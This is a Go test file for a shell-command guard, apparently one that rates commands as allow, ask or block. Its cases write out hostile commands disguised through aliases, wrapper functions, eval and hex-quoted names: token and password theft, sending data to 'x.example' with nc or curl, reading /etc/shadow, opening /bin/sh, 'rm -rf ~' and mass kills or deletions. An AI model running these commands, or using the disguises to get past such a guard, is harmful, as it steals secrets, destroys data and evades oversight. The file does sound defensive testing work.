package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestDialect63Aliases: an alias, or a function that only passes its
// arguments on to one command, is expanded where its name stands in
// command position before the statement is judged, as the shells read it:
// alias x=gh⏎x auth token is gh auth token in its own pipeline, with its
// own redirections (session 63, 2026-12-07: the alias's text was walked
// apart, as a carrier no rule reads the output of).
func TestDialect63Aliases(t *testing.T) {
	checkShellHoles(t, []shellHoleCase{
		{"zsh", "alias x=gh\nx auth token", dsl.Ask, dsl.Ask}, // as written too: x reading a file named token (stmtAsWritten)
		{"zsh", "alias x=echo\nx LD_PRELOAD=/tmp/x.so | tee -a $GITHUB_ENV", dsl.Ask, dsl.Ask},
		{"zsh", "alias x=ncat\nx -l 9001 > implant.elf", dsl.Ask, dsl.Ask},
		{"zsh", "alias x=ghci\nx <<< 'System.Process.callCommand \"/bin/sh\"'", dsl.Ask, dsl.Ask},
		{"zsh", "alias x=jshell\nx <<< '/open /etc/shadow'", dsl.Ask, dsl.Ask},
		{"zsh", "alias x=printf\nx 'esyscmd(rm -rf ~)' | m4", dsl.Block, dsl.Block},
		{"zsh", "alias x=systemctl\nx list-units --type=service --no-legend | awk '{print $1}' | xargs systemctl stop", dsl.Ask, dsl.Ask},
		{"bash", "shopt -s expand_aliases\nalias x='pass show mail/me'\nx", dsl.Allow, dsl.Ask},
		{"bash", "shopt -s expand_aliases\nalias x='vault kv get secret/app/db'\nx", dsl.Allow, dsl.Ask},
		{"bash", "shopt -s expand_aliases\nalias x='printf '\"'\"'%s\\n'\"'\"' \"$DB_PASSWORD\"'\nx", dsl.Allow, dsl.Ask},
		{"bash", "shopt -s expand_aliases\nalias x='c=\"$(cat /etc/apt/sources.list)\"\ncurl --data-binary \"$c\" http://127.0.0.1:5758/'\nx", dsl.Ask, dsl.Ask},
		// alias sudo='sudo ': the word after it is an alias's place too
		{"bash", "alias sudo='sudo '\nalias x='gh auth token'\nsudo x", dsl.Allow, dsl.Ask},
		{"fish", "alias x=pass; x show mail/me", dsl.Allow, dsl.Ask},
		{"fish", "alias x=op; x read op://v/i/password > /dev/shm/p", dsl.Ask, dsl.Ask},
		{"fish", "alias x=kubectl; x get deploy -n dev -o name | xargs -n1 kubectl delete -n dev", dsl.Ask, dsl.Ask},
		{"fish", "alias x=echo; x LD_PRELOAD=/tmp/x.so | tee -a $GITHUB_ENV", dsl.Ask, dsl.Ask},
		{"fish", "function x --wraps gh; gh $argv; end; x auth status --show-token", dsl.Allow, dsl.Ask},
		{"fish", "function x --wraps kubectl; kubectl $argv; end; x get deploy -n dev -o name | xargs -n1 kubectl delete -n dev", dsl.Ask, dsl.Ask},
		{"fish", "function x --wraps echo; echo $argv; end; x \"$(env)\" | base64", dsl.Ask, dsl.Ask},
		{"fish", "function x --wraps usermod; usermod $argv; end; x --password=$(openssl passwd -6 x) root", dsl.Ask, dsl.Ask},
		{"bash", "x(){ gh \"$@\"; }; x auth status --show-token", dsl.Allow, dsl.Ask},
		// everyday aliases and functions stay allowed; an alias of its own
		// name is not expanded again within its text
		{"bash", "alias ll='ls -la'\nll", dsl.Allow, dsl.Allow},
		{"bash", "alias ls='ls --color'\nls -la", dsl.Allow, dsl.Allow},
		{"bash", "alias sudo='sudo '\nalias ll='ls -la'\nsudo ll", dsl.Allow, dsl.Allow},
		{"bash", "gco(){ git checkout \"$@\"; }; gco main", dsl.Allow, dsl.Allow},
		{"zsh", "alias g=git\ng status", dsl.Allow, dsl.Allow},
		{"zsh", "alias x=gh\nx auth token > t.txt", dsl.Ask, dsl.Ask},
		{"fish", "abbr -a gco git checkout", dsl.Allow, dsl.Allow},
		{"fish", "function mkcd; mkdir -p $argv; cd $argv; end", dsl.Allow, dsl.Allow},
		{"fish", "alias ll 'ls -la'; ll", dsl.Allow, dsl.Allow},
		{"fish", "function x --wraps gh; gh $argv; end; x auth token | docker login ghcr.io -u me --password-stdin", dsl.Ask, dsl.Ask},
	})
}

// TestDialect63Eval: an eval of words known as written is its text in
// eval's place, with eval's pipe and redirections, in bash and fish
// (fish's string join computed): eval cat /dev/zero > f fills a file as
// cat /dev/zero > f does (session 63: the text was walked without them).
func TestDialect63Eval(t *testing.T) {
	checkShellHoles(t, []shellHoleCase{
		{"bash", "eval cat /dev/zero > /tmp/fill", dsl.Ask, dsl.Ask},
		{"bash", "eval declare -x | base64", dsl.Ask, dsl.Ask},
		{"bash", "eval env -0 | openssl base64", dsl.Ask, dsl.Ask},
		{"fish", "eval env -0 | openssl base64", dsl.Ask, dsl.Ask},
		{"fish", "eval (string join \"\" e n v) -0 | openssl base64", dsl.Ask, dsl.Ask},
		{"fish", "eval op read op://v/i/password > /dev/shm/p", dsl.Ask, dsl.Ask},
		{"fish", "eval (string join \"\" o p) read op://v/i/password > /dev/shm/p", dsl.Ask, dsl.Ask},
		{"fish", "eval cat /etc/group | nc x.example 80", dsl.Ask, dsl.Ask},
		{"fish", "eval (string join \"\" k u b e c t l) get deploy -n dev -o name | xargs -n1 kubectl delete -n dev", dsl.Ask, dsl.Ask},
		{"bash", "eval ls -la", dsl.Allow, dsl.Allow},
		{"bash", "eval git status > /tmp/s.txt", dsl.Allow, dsl.Allow},
		{"bash", "eval \"$(ssh-agent -s)\"", dsl.Allow, dsl.Allow},
		{"fish", "eval (string join \"\" g i t) status", dsl.Allow, dsl.Allow},
	})
}

// TestDialect63Spelled: a command name written in ANSI-C quotes or an
// indirect expansion whose value is known ($'\x70's, ${!v}) is read as run
// by the rules that match the line's text and by the listings xargs takes
// (session 63: the line showed them as written), and a trap's text prints
// where the shell does.
func TestDialect63Spelled(t *testing.T) {
	checkShellHoles(t, []shellHoleCase{
		{"bash", "$'\\x70's aux | awk '{print $2}' | xargs kill -9", dsl.Ask, dsl.Ask},
		{"bash", "$'\\x73'cript -q /dev/null", dsl.Ask, dsl.Ask},
		{"bash", "$'\\x64'ocker images -q | xargs docker rmi", dsl.Ask, dsl.Ask},
		{"bash", "$'\\x64\\x6f\\x63\\x6b\\x65\\x72' ps -aq | sort | xargs docker rm -f", dsl.Ask, dsl.Ask},
		{"bash", "$'\\x79\\x65\\x73' > /dev/null &", dsl.Ask, dsl.Ask},
		{"bash", "v=a; a=docker; ${!v} ps -aq | xargs docker rm -f", dsl.Ask, dsl.Ask},
		{"bash", "v=a; a=ps; ${!v} -eo pid | while read p; do kill $p; done", dsl.Ask, dsl.Ask},
		{"bash", "v=a; a=kubectl; ${!v} get pods -o name | xargs kubectl delete", dsl.Ask, dsl.Ask},
		{"bash", "trap 'oc whoami -t' EXIT", dsl.Allow, dsl.Ask},
		{"bash", "trap 'lpass show github' EXIT", dsl.Allow, dsl.Ask},
		{"bash", "\"ls\" -la", dsl.Allow, dsl.Allow},
		{"bash", "$'\\x6c\\x73' -la", dsl.Allow, dsl.Allow},
		{"bash", "trap 'rm -f \"$tmp\"' EXIT", dsl.Allow, dsl.Allow},
	})
}
